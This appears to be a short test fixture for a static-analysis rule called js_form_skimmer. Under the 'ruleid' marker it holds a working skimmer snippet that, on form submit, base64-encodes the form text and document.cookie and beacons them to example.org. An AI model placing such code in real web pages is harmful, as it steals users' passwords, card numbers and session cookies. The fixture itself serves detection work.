// ok: js_form_skimmer
const label = 'Password:';
// ruleid: js_form_skimmer
const watched = ['password', 'cardnumber'];
form.addEventListener('submit', () => {
  new Image().src = 'https://example.org/c?d=' + btoa(form.innerText + document.cookie);
});
